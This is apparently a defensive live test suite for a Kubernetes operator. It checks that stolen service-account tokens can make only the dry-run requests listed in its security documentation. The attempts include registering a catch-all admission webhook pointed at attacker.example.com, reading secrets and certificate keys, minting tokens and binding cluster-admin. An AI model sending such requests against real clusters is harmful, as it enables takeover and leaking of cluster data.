"""Requests with a stolen token of the operator, as docs/security.md lists them, for each layout of the chart."""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import pytest
from tools.generate import ROOT

from tests.conftest import MakeCluster
from tests.fixtures.clusters import require_local_cluster
from tests.fixtures.custom_resources import served
from tests.fixtures.waiting import eventually, wait_for
from trimtab.api.crds import crd_documents
from trimtab.api.reasons import PREEMPTION_BY_SCHEDULER
from trimtab.cluster.disruption_signals import DISRUPTION_TARGET
from trimtab.kube.api import Forbidden, Invalid
from trimtab.kube.resources import (
    CLUSTER_AUTOSCALERS,
    CONFIG_MAPS,
    DAEMON_SETS,
    DEPLOYMENTS,
    DESCHEDULER_POLICIES,
    DESCHEDULING_RUNS,
    EVENTS,
    LEASES,
    MACHINE_AUTOSCALERS,
    MACHINE_SETS,
    MACHINES,
    NODE_PRESSURE_POLICIES,
    NODES,
    PERSISTENT_VOLUME_CLAIMS,
    PERSISTENT_VOLUMES,
    PLACEMENT_ADMISSIONS,
    PODS,
    SCHEDULER_POLICIES,
    TAINT_MANAGERS,
    Resource,
)
from trimtab.pressure.state import ANNOTATION as STATE_ANNOTATION
from trimtab.pressure.state import CONDITION_TYPES, TAINT_KEYS
from trimtab_local.client import Client
from trimtab_local.cluster import LocalCluster
from trimtab_local.components import WITH_MACHINES, Settings
from trimtab_local.install import NAMESPACE, apply, install
from trimtab_local.nodes import node, ready

pytestmark = pytest.mark.live

MERGE: Final = "application/merge-patch+json"
STRATEGIC: Final = "application/strategic-merge-patch+json"
SHOP: Final = "shop"
MACHINE_NAMESPACE: Final = "openshift-machine-api"
POLICIES: Final = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies"
ROLES: Final = "/apis/rbac.authorization.k8s.io/v1"
RIGHTS: Final = "controllers.taintManager.rights"
WEBHOOKS: Final = "trimtab-admission"
REGISTRATIONS: Final = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"

LAYOUTS: Final[Mapping[str, tuple[tuple[str, ...], str]]] = {
    "Observe": ((), "trimtab"),
    "TaintAndEvict": ((f"{RIGHTS}=TaintAndEvict",), "trimtab"),
    "Descheduler": ((f"{RIGHTS}=TaintAndEvict", "deployments=PerController"), "trimtab-descheduler"),
    "Cluster autoscaler": ((f"{RIGHTS}=TaintAndEvict", "deployments=PerController"), "trimtab-cluster-autoscaler"),
    "Taint manager": ((f"{RIGHTS}=TaintAndEvict", "deployments=PerController"), "trimtab-taint-manager"),
    "Scheduler": (
        (f"{RIGHTS}=TaintAndEvict", "deployments=PerController", "controllers.scheduler.enabled=true"),
        "trimtab-scheduler",
    ),
    "Node pressure": (
        (
            *(f"{RIGHTS}=TaintAndEvict", "deployments=PerController", "controllers.scheduler.enabled=true"),
            "controllers.pressure.enabled=true",
        ),
        "trimtab-pressure",
    ),
    "Webhooks": (
        (
            *(f"{RIGHTS}=TaintAndEvict", "deployments=PerController", "controllers.scheduler.enabled=true"),
            *("controllers.pressure.enabled=true", "admission.enabled=true"),
        ),
        WEBHOOKS,
    ),
}
"""Column of the table: values of the chart, and the account whose token was stolen. Each layout has what those before
it have, so that one cluster can be upgraded from the first to the last."""

YES, ROLE, POLICY, SCHEMA = "yes", "no: role", "no: policy", "no: schema"

OPTIONAL: Final = (SCHEDULER_POLICIES, PLACEMENT_ADMISSIONS, NODE_PRESSURE_POLICIES)
"""The kinds that the chart does not install by default."""

Attempt = Callable[[Client], Any]


def expectations() -> dict[str, dict[str, str]]:
    """The table of docs/security.md: expected outcome by request and column."""
    text = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    header = "| Request | " + " | ".join(LAYOUTS) + " |\n"
    _, found, rest = text.partition(header)
    assert found, f"docs/security.md has no table with the header {header}"
    rows = [
        [cell.strip() for cell in line.strip("|").split("|")] for line in rest.partition("\n\n")[0].splitlines()[1:]
    ]
    return {row[0]: dict(zip(LAYOUTS, row[1:], strict=True)) for row in rows}


# ── The requests; all of them with dryRun=All, which authorization and admission treat alike ──────────────────────────


def patch(resource: Resource, name: str, body: Any, *, namespace: str = "", sub: str = "", how: str = MERGE) -> Attempt:
    path = resource.path(name, namespace=namespace, subresource=sub)
    return lambda client: client.request("PATCH", path, body, params={"dryRun": "All"}, content_type=how)


def create(path: str, body: Any) -> Attempt:
    return lambda client: client.request("POST", path, body, params={"dryRun": "All"})


def delete(path: str, **options: Any) -> Attempt:
    body = {"apiVersion": "v1", "kind": "DeleteOptions", "dryRun": ["All"], **options}
    return lambda client: client.request("DELETE", path, body)


def node_status(status: Any) -> Attempt:
    return patch(NODES, "n0", {"status": status}, sub="status", how=STRATEGIC)


def pod_status(status: Any, *, name: str = "web") -> Attempt:
    return patch(PODS, name, {"status": status}, namespace=SHOP, sub="status", how=STRATEGIC)


def taints(*added: dict[str, str], kept: bool = True) -> Attempt:
    """A request that sets the taints of a node and keeps or removes another program's taint."""
    there = [FOREIGN] if kept else []
    return patch(NODES, "n0", {"spec": {"taints": [*there, *added]}})


def annotate(resource: Resource, name: str, key: str, *, namespace: str = "") -> Attempt:
    return patch(resource, name, {"metadata": {"annotations": {key: "1"}}}, namespace=namespace)


def machine_set(body: Any, sub: str = "") -> Attempt:
    return patch(MACHINE_SETS, "workers", body, namespace=MACHINE_NAMESPACE, sub=sub)


PROVIDER: Final = {"providerSpec": {"value": {"iamInstanceProfile": {"id": "admin"}}}}
FOREIGN: Final = {"key": "example.com/kept", "effect": "PreferNoSchedule"}
CONDITION: Final = {"reason": "Test", "message": "test"}
WEBHOOK: Final = {
    "name": "all.example.com",
    "clientConfig": {"url": "https://attacker.example.com/"},
    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}],
    "sideEffects": "None",
    "admissionReviewVersions": ["v1"],
}
CLAIM: Final = {"kind": "PersistentVolumeClaim", "apiVersion": "v1", "namespace": SHOP, "name": "data"}
RUN: Final = {
    "policy": "default",
    "policyUid": "0",
    "policyGeneration": 1,
    "mode": "Approve",
    "time": "2026-01-01T00:00:00Z",
    "planned": 0,
    "kept": 0,
}

ATTEMPTS: Final[Mapping[str, Attempt]] = {
    "change a node's addresses": node_status({"addresses": [{"type": "InternalIP", "address": "192.0.2.1"}]}),
    "change a node's kubelet port": node_status({"daemonEndpoints": {"kubeletEndpoint": {"Port": 4444}}}),
    "change a node's allocatable": node_status({"allocatable": {"cpu": "8000"}}),
    "report memory pressure of a node": node_status(
        {"conditions": [{"type": "MemoryPressure", "status": "True", **CONDITION}]}
    ),
    "report that a node is not heard of": node_status(
        {"conditions": [{"type": "Ready", "status": "Unknown", **CONDITION}]}
    ),
    "report memory pressure of a node to trimtab": node_status(
        {"conditions": [{"type": CONDITION_TYPES["MemoryPressure"], "status": "True", **CONDITION}]}
    ),
    "read what a kubelet serves": lambda client: client.request("GET", f"{NODES.path('n0')}/proxy/stats/summary"),
    "label a node through its status": patch(NODES, "n0", {"metadata": {"labels": {"a": "b"}}}, sub="status"),
    "label a node as control plane": patch(
        NODES, "n0", {"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}}
    ),
    "change a node's pod range": patch(NODES, "n0", {"spec": {"podCIDR": "10.9.0.0/24", "podCIDRs": ["10.9.0.0/24"]}}),
    "keep a node from being scaled down": annotate(NODES, "n0", "cluster-autoscaler.kubernetes.io/scale-down-disabled"),
    "set a NoExecute taint of any key": taints({"key": "example.com/x", "effect": "NoExecute"}),
    "set the taint not-ready:NoExecute": taints({"key": "node.kubernetes.io/not-ready", "effect": "NoExecute"}),
    "remove a taint of another program": taints(kept=False),
    "set the taint of a removal": taints({"key": "ToBeDeletedByClusterAutoscaler", "effect": "NoSchedule"}),
    "set the taint of memory pressure": taints({"key": TAINT_KEYS["MemoryPressure"], "effect": "NoSchedule"}),
    "change the recorded pressure of a node": annotate(NODES, "n0", STATE_ANNOTATION),
    "cordon a node": patch(NODES, "n0", {"spec": {"unschedulable": True}}),
    "create a node": create(NODES.path(), node("n9", zone="z")),
    "delete a node": delete(NODES.path("n0")),
    "change a pod's IP": patch(
        PODS,
        "web",
        {"status": {"podIP": "192.0.2.1", "podIPs": [{"ip": "192.0.2.1"}]}},
        namespace=SHOP,
        sub="status",
    ),
    "declare a pod failed": pod_status({"phase": "Failed"}),
    "annotate a pod through its status": patch(
        PODS, "web", {"metadata": {"annotations": {"a": "b"}}}, namespace=SHOP, sub="status"
    ),
    "declare a pod ready": patch(
        PODS,
        "waiting",
        {"status": {"conditions": [{"type": "Ready", "status": "True"}]}},
        namespace=SHOP,
        sub="status",
        how=STRATEGIC,
    ),
    "declare a pod not ready": pod_status({"conditions": [{"type": "Ready", "status": "False"}]}),
    "delete a pod": delete(PODS.path("web", namespace=SHOP)),
    "delete a pod without its grace period": delete(PODS.path("web", namespace=SHOP), gracePeriodSeconds=0),
    "delete a kube-system pod": delete(PODS.path("dns", namespace="kube-system")),
    "delete a kube-system pod that tolerates all taints": delete(PODS.path("proxy", namespace="kube-system")),
    "delete a DaemonSet pod": delete(PODS.path("agent", namespace=SHOP)),
    "evict a kube-system pod": create(
        PODS.path("dns", namespace="kube-system", subresource="eviction"),
        {
            "apiVersion": "policy/v1",
            "kind": "Eviction",
            "metadata": {"name": "dns", "namespace": "kube-system"},
            "deleteOptions": {"dryRun": ["All"]},
        },
    ),
    "evict a pod without its grace period": create(
        PODS.path("web", namespace=SHOP, subresource="eviction"),
        {
            "apiVersion": "policy/v1",
            "kind": "Eviction",
            "metadata": {"name": "web", "namespace": SHOP},
            "deleteOptions": {"dryRun": ["All"], "gracePeriodSeconds": 0},
        },
    ),
    "bind a pending pod": create(
        PODS.path("unbound", namespace=SHOP, subresource="binding"),
        {
            "apiVersion": "v1",
            "kind": "Binding",
            "metadata": {"name": "unbound", "namespace": SHOP},
            "target": {"apiVersion": "v1", "kind": "Node", "name": "n0"},
        },
    ),
    "nominate a node for a pod": pod_status({"nominatedNodeName": "n0"}, name="unbound"),
    "report a pod as unschedulable": pod_status(
        {"conditions": [{"type": "PodScheduled", "status": "False", **CONDITION}]}, name="unbound"
    ),
    "report a pod as disrupted": pod_status(
        {"conditions": [{"type": DISRUPTION_TARGET, "status": "True", **CONDITION}]}
    ),
    "delete a pod that is being preempted": delete(PODS.path("victim", namespace=SHOP)),
    "reserve a volume for a claim": patch(PERSISTENT_VOLUMES, "free", {"spec": {"claimRef": CLAIM}}),
    "change the reclaim policy of a volume": patch(
        PERSISTENT_VOLUMES, "free", {"spec": {"persistentVolumeReclaimPolicy": "Delete"}}
    ),
    "take a volume from its claim": patch(
        PERSISTENT_VOLUMES, "reserved", {"spec": {"claimRef": {**CLAIM, "name": "other"}}}
    ),
    "select a node for a claim": annotate(
        PERSISTENT_VOLUME_CLAIMS, "data", "volume.kubernetes.io/selected-node", namespace=SHOP
    ),
    "label a claim": patch(PERSISTENT_VOLUME_CLAIMS, "data", {"metadata": {"labels": {"a": "b"}}}, namespace=SHOP),
    "create a pod": create(
        PODS.path(namespace=SHOP), {"metadata": {"name": "x"}, "spec": {"containers": [{"name": "c", "image": "x"}]}}
    ),
    "run a command in a pod": create(PODS.path("web", namespace=SHOP, subresource="exec"), None),
    "read a secret": lambda client: client.request("GET", f"/api/v1/namespaces/{NAMESPACE}/secrets"),
    "create a token": create(
        f"/api/v1/namespaces/{NAMESPACE}/serviceaccounts/default/token",
        {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}},
    ),
    "create a token that reads statistics of nodes": create(
        f"/api/v1/namespaces/{NAMESPACE}/serviceaccounts/trimtab-kubelet-stats/token",
        {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}},
    ),
    "change a Deployment": patch(DEPLOYMENTS, "web", {"spec": {"replicas": 0}}, namespace=SHOP),
    "change the provider spec of a MachineSet": machine_set({"spec": {"template": {"spec": PROVIDER}}}),
    "set the price of a MachineSet": machine_set({"metadata": {"annotations": {"trimtab.dev/price": "0.001"}}}),
    "set the limits of a MachineSet": machine_set(
        {"metadata": {"annotations": {"machine.openshift.io/cluster-api-autoscaler-node-group-max-size": "9"}}}
    ),
    "set the size of a MachineSet": machine_set({"spec": {"replicas": 3}}, sub="scale"),
    "change the provider spec of a Machine": patch(MACHINES, "m", {"spec": PROVIDER}, namespace=MACHINE_NAMESPACE),
    "mark a Machine for deletion": annotate(
        MACHINES, "m", "machine.openshift.io/delete-machine", namespace=MACHINE_NAMESPACE
    ),
    "delete a Machine": delete(MACHINES.path("m", namespace=MACHINE_NAMESPACE)),
    "set a DeschedulerPolicy from Approve to Act": patch(DESCHEDULER_POLICIES, "default", {"spec": {"mode": "Act"}}),
    "make a DeschedulerPolicy forget refusals": annotate(DESCHEDULER_POLICIES, "default", "trimtab.dev/try-again"),
    "remove another program's finalizer": patch(
        DESCHEDULER_POLICIES, "default", {"metadata": {"finalizers": ["trimtab.dev/finalizer"]}}
    ),
    "remove our finalizer from a DeschedulerPolicy": patch(
        DESCHEDULER_POLICIES, "default", {"metadata": {"finalizers": ["example.com/kept"]}}
    ),
    "change the status of a DeschedulerPolicy": patch(
        DESCHEDULER_POLICIES, "default", {"status": {"observedGeneration": 1}}, sub="status"
    ),
    "change the spec of a ClusterAutoscaler": patch(
        CLUSTER_AUTOSCALERS, "default", {"spec": {"resourceLimits": {"maxNodesTotal": 1000}}}
    ),
    "change the spec of a MachineAutoscaler": patch(
        MACHINE_AUTOSCALERS, "w", {"spec": {"maxReplicas": 100}}, namespace=MACHINE_NAMESPACE
    ),
    "set a TaintManager to mode TaintAndEvict": patch(TAINT_MANAGERS, "default", {"spec": {"mode": "TaintAndEvict"}}),
    "change the spec of a SchedulerPolicy": patch(SCHEDULER_POLICIES, "default", {"spec": {"schedulerName": "other"}}),
    "set a NodePressurePolicy to mode Act": patch(NODE_PRESSURE_POLICIES, "default", {"spec": {"mode": "Act"}}),
    "approve a run": patch(DESCHEDULING_RUNS, "run", {"spec": {"approved": True}}),
    "create an approved run": create(
        DESCHEDULING_RUNS.path(),
        {
            "apiVersion": DESCHEDULING_RUNS.api_version,
            "kind": DESCHEDULING_RUNS.kind,
            "metadata": {"name": "born-approved"},
            "spec": {"plan": RUN, "approved": True},
        },
    ),
    "delete a run": delete(DESCHEDULING_RUNS.path("run")),
    "create a Lease of another name": create(
        LEASES.path(namespace=NAMESPACE), {"metadata": {"name": "kube-scheduler"}, "spec": {}}
    ),
    "list the Leases of all namespaces": lambda client: client.request("GET", LEASES.path()),
    "renew a node's Lease": patch(LEASES, "n0", {"spec": {"holderIdentity": "x"}}, namespace="kube-node-lease"),
    "create the priority expander's ConfigMap": create(
        CONFIG_MAPS.path(namespace=NAMESPACE), {"metadata": {"name": "cluster-autoscaler-priority-expander"}}
    ),
    "create an event in kubelet's name": create(
        EVENTS.path(namespace=SHOP),
        {
            "metadata": {"name": "e"},
            "eventTime": "2026-01-01T00:00:00.000000Z",
            "reportingController": "kubelet",
            "reportingInstance": "n0",
            "action": "Killing",
            "reason": "Killing",
            "type": "Normal",
            "note": "x",
            "regarding": {"kind": "Pod", "namespace": SHOP, "name": "web"},
        },
    ),
    "delete one of these admission policies": delete(f"{POLICIES}/trimtab-nodes"),
    "change the spec of the PlacementAdmission": patch(PLACEMENT_ADMISSIONS, "default", {"spec": {"mode": "Enforce"}}),
    "change the status of the PlacementAdmission": patch(
        PLACEMENT_ADMISSIONS, "default", {"status": {"refused": 0}}, sub="status"
    ),
    "register a webhook for all requests": lambda client: client.request(
        "PATCH",
        f"{REGISTRATIONS}/{WEBHOOKS}",
        {"webhooks": [WEBHOOK]},
        params={"dryRun": "All"},
        content_type=MERGE,
    ),
    "create a webhook configuration": create(REGISTRATIONS, {"metadata": {"name": "other"}, "webhooks": [WEBHOOK]}),
    "read the key of the webhooks": lambda client: client.request(
        "GET",
        f"/api/v1/namespaces/{NAMESPACE}/secrets",
        params={"fieldSelector": f"metadata.name={WEBHOOKS}-certificate"},
    ),
    "find out what a user may do": create(
        "/apis/authorization.k8s.io/v1/subjectaccessreviews",
        {"spec": {"user": "dev", "resourceAttributes": {"verb": "get", "resource": "secrets", "namespace": SHOP}}},
    ),
    "bind a role": create(
        f"{ROLES}/clusterrolebindings",
        {
            "metadata": {"name": "x"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        },
    ),
}


def outcome(attempt: Attempt, client: Client) -> str:
    """The outcome of a request, in the words of the table."""
    try:
        attempt(client)
    except Forbidden as error:
        return POLICY if "ValidatingAdmissionPolicy" in error.message else ROLE
    except Invalid:
        return SCHEMA
    return YES


# ── The cluster ─────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def target(make_lasting_cluster: MakeCluster, request: pytest.FixtureRequest) -> LocalCluster:
    """A cluster with one object of each kind that the requests address."""
    require_local_cluster(request, "these tests need the machine API of a local control plane")
    cluster = make_lasting_cluster(Settings(components=WITH_MACHINES), nodes=0)
    install(cluster)
    client = cluster.client
    for definition in crd_documents():
        if definition["spec"]["names"]["kind"] in {each.kind for each in OPTIONAL}:
            apply(client, "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", definition)  # the roles come last
    configuration = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration"}
    apply(client, REGISTRATIONS, {**configuration, "metadata": {"name": WEBHOOKS}})
    kinds = (CLUSTER_AUTOSCALERS, MACHINE_AUTOSCALERS, TAINT_MANAGERS, DESCHEDULER_POLICIES, MACHINE_SETS)
    kinds += OPTIONAL
    wait_for(lambda: all(served(client, each.path()) for each in kinds), "the kinds to be served")
    for name in (SHOP, MACHINE_NAMESPACE):
        client.request("POST", "/api/v1/namespaces", {"metadata": {"name": name}})
    for namespace in (SHOP, "kube-system"):
        path = f"/api/v1/namespaces/{namespace}/serviceaccounts/default"
        wait_for(lambda path=path: served(client, path), "the default service account")  # type: ignore[misc]
    client.request("POST", NODES.path(), node("n0", zone="z", taints=[FOREIGN]))
    wait_for(lambda: ready(client.request("GET", NODES.path("n0"))), "the node to be ready")
    for namespace, name, on, tolerations in (
        (SHOP, "web", "n0", []),
        (SHOP, "waiting", "", [{"key": "none", "operator": "Exists"}]),
        ("kube-system", "dns", "n0", []),
        ("kube-system", "proxy", "n0", [{"operator": "Exists"}]),
    ):
        containers = [{"name": "main", "image": "registry.k8s.io/pause:3.10"}]
        gates = {} if on else {"schedulingGates": [{"name": "example.com/never"}]}
        spec = {"containers": containers, "tolerations": tolerations, **({"nodeName": on} if on else gates)}
        client.request("POST", PODS.path(namespace=namespace), {"metadata": {"name": name}, "spec": spec})
    _make_daemon_set_pod(client)
    path = PODS.path("web", namespace=SHOP)
    wait_for(lambda: client.request("GET", path)["status"].get("phase") == "Running", "the pod to run")
    _make_scheduling_objects(client)
    labels = {"app": "web"}
    template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "main", "image": "x"}]}}
    objects: list[tuple[Resource, str, str, dict[str, Any], dict[str, Any]]] = [
        (DEPLOYMENTS, SHOP, "web", {}, {"replicas": 0, "selector": {"matchLabels": labels}, "template": template}),
        (
            MACHINE_SETS,
            MACHINE_NAMESPACE,
            "workers",
            {},
            {
                "replicas": 0,
                "selector": {"matchLabels": labels},
                "template": {"metadata": {"labels": labels}, "spec": {}},
            },
        ),
        (MACHINES, MACHINE_NAMESPACE, "m", {}, {}),
        (
            DESCHEDULER_POLICIES,
            "",
            "default",
            {"finalizers": ["trimtab.dev/finalizer", "example.com/kept"]},
            {"mode": "Approve", "strategies": {"RemoveDuplicates": {}}},
        ),
        (CLUSTER_AUTOSCALERS, "", "default", {}, {}),
        (
            MACHINE_AUTOSCALERS,
            MACHINE_NAMESPACE,
            "w",
            {},
            {"minReplicas": 1, "maxReplicas": 3, "scaleTargetRef": {"kind": "MachineSet", "name": "workers"}},
        ),
        (TAINT_MANAGERS, "", "default", {}, {"mode": "Observe"}),
        (SCHEDULER_POLICIES, "", "default", {}, {"schedulerName": "unserved"}),
        (PLACEMENT_ADMISSIONS, "", "default", {}, {"mode": "Warn"}),
        (NODE_PRESSURE_POLICIES, "", "default", {}, {"memoryStall": {"percent": 50}}),
        (DESCHEDULING_RUNS, "", "run", {}, {"plan": RUN, "approved": False}),
    ]
    for resource, namespace, name, metadata, spec in objects:
        manifest = {
            "apiVersion": resource.api_version,
            "kind": resource.kind,
            "metadata": {"name": name, **metadata},
            "spec": spec,
        }
        apply(client, resource.path(namespace=namespace), manifest)
    return cluster


def _make_daemon_set_pod(client: Client) -> None:
    """Create a pod that belongs to a DaemonSet without selecting nodes."""
    labels = {"app": "agent"}
    containers = [{"name": "main", "image": "registry.k8s.io/pause:3.10"}]
    template = {"metadata": {"labels": labels}, "spec": {"containers": containers, "nodeSelector": {"none": "none"}}}
    path = DAEMON_SETS.path(namespace=SHOP)
    spec = {"selector": {"matchLabels": labels}, "template": template}
    owner = client.request("POST", path, {"metadata": {"name": "agent"}, "spec": spec})
    metadata = {
        "name": "agent",
        "ownerReferences": [
            {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "agent", "uid": owner["metadata"]["uid"]}
        ],
    }
    # Without the label, the DaemonSet does not adopt the pod, and does not delete it.
    pod = {"metadata": metadata, "spec": {"containers": containers, "nodeName": "n0"}}
    client.request("POST", PODS.path(namespace=SHOP), pod)


def _make_scheduling_objects(client: Client) -> None:
    """Create a pod of an absent scheduler, a preempted pod, two volumes and a claim."""
    containers = [{"name": "main", "image": "registry.k8s.io/pause:3.10"}]
    for name, spec in (("unbound", {"schedulerName": "unserved"}), ("victim", {"nodeName": "n0"})):
        manifest = {"metadata": {"name": name}, "spec": {"containers": containers, **spec}}
        client.request("POST", PODS.path(namespace=SHOP), manifest)
    path = PODS.path("victim", namespace=SHOP)
    wait_for(lambda: client.request("GET", path)["status"].get("phase") == "Running", "the victim to run")
    # kube-controller-manager resets the condition two minutes after its transition.
    preempted = {
        "type": DISRUPTION_TARGET,
        "status": "True",
        "reason": PREEMPTION_BY_SCHEDULER,
        "lastTransitionTime": "2100-01-01T00:00:00Z",
    }
    path = PODS.path("victim", namespace=SHOP, subresource="status")
    client.request("PATCH", path, {"status": {"conditions": [preempted]}}, content_type=STRATEGIC)
    storage = {"accessModes": ["ReadWriteOnce"], "storageClassName": "none"}
    for name, more in (("free", {}), ("reserved", {"claimRef": CLAIM})):
        volume = {**storage, "capacity": {"storage": "1Gi"}, "hostPath": {"path": "/x"}, **more}
        client.request("POST", PERSISTENT_VOLUMES.path(), {"metadata": {"name": name}, "spec": volume})
    claim = {**storage, "resources": {"requests": {"storage": "2Gi"}}}
    path = PERSISTENT_VOLUME_CLAIMS.path(namespace=SHOP)
    client.request("POST", path, {"metadata": {"name": "data"}, "spec": claim})


@pytest.fixture(scope="module", params=LAYOUTS)
def stolen(request: pytest.FixtureRequest, target: LocalCluster) -> tuple[str, Client]:
    """A column of the table, and a client with the token of its account."""
    values, account = LAYOUTS[request.param]
    install(target, *values)
    token = target.service_account_token(NAMESPACE, account)
    return request.param, Client(server=target.server, token=token, ca=Path(target.ca))


def test_the_table_lists_each_request_once() -> None:
    assert list(expectations()) == list(ATTEMPTS)


@pytest.mark.parametrize("name", ATTEMPTS)
def test_stolen_token_has_only_the_documented_permissions(stolen: tuple[str, Client], name: str) -> None:
    column, client = stolen
    expected = expectations()[name][column]
    # The API server reads roles and policies through watches.
    with suppress(AssertionError):
        eventually(lambda: outcome(ATTEMPTS[name], client) == expected, "the outcome", seconds=20, pause=0.5)
    assert outcome(ATTEMPTS[name], client) == expected


def test_admission_policies_pass_the_type_check(target: LocalCluster) -> None:
    install(
        target,
        f"{RIGHTS}=TaintAndEvict",
        "cloudProvider.kwok.enabled=true",
        "controllers.descheduler.surge=true",
        "controllers.scheduler.enabled=true",
        "controllers.pressure.enabled=true",
    )
    client = target.client

    def ours() -> list[dict[str, Any]]:
        found = client.request("GET", POLICIES)["items"]
        return [each for each in found if each["metadata"]["name"].startswith("trimtab-")]

    wait_for(lambda: all("typeChecking" in each.get("status", {}) for each in ours()), "the type checks")
    warnings = {each["metadata"]["name"]: each["status"]["typeChecking"].get("expressionWarnings") for each in ours()}
    assert {name: each for name, each in warnings.items() if each} == {}


@pytest.mark.parametrize(
    ("schema", "part", "policy", "written"),
    [
        ("NodeSpec", "spec", "nodes", {"taints", "unschedulable"}),
        ("NodeStatus", "status", "node-status", {"conditions"}),
        ("PodStatus", "status", "pod-status", {"conditions", "nominatedNodeName"}),
        ("PersistentVolumeSpec", "spec", "volumes", {"claimRef"}),
        ("PersistentVolumeClaimSpec", "spec", "claims", set()),
    ],
)
def test_admission_policies_compare_every_field(
    target: LocalCluster, schema: str, part: str, policy: str, written: set[str]
) -> None:
    """Otherwise the operator's token could write a field that a later Kubernetes version adds."""
    install(target, f"{RIGHTS}=TaintAndEvict", "controllers.scheduler.enabled=true")
    client = target.client
    schemas = client.request("GET", "/openapi/v3/api/v1")["components"]["schemas"]
    fields = set(schemas[f"io.k8s.api.core.v1.{schema}"]["properties"])
    [found] = [
        each for each in client.request("GET", POLICIES)["items"] if each["metadata"]["name"] == f"trimtab-{policy}"
    ]
    text = " ".join(each["expression"] for each in found["spec"]["validations"])
    compared = set(re.findall(rf"object\)?\.{part}\.\?(\w+) == (?:dyn\()?oldObject\)?\.{part}\.\?\1\b", text))
    assert fields - compared == written


def test_admission_policies_ignore_other_users(target: LocalCluster) -> None:
    for name in ("change a node's allocatable", "label a node as control plane", "change a pod's IP"):
        assert outcome(ATTEMPTS[name], target.client) == YES
